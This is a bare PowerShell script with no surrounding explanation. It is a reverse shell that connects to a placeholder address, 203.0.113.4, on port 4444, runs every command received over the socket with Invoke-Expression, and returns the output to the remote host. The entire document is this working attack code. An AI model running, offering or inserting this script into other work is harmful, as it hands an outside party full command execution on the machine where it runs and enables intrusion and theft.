$c = New-Object System.Net.Sockets.TCPClient('203.0.113.4', 4444)
$s = $c.GetStream(); [byte[]]$b = 0..65535 | ForEach-Object { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
  $o = (Invoke-Expression $d 2>&1 | Out-String)
  $s.Write(([text.encoding]::ASCII).GetBytes($o), 0, $o.Length)
}
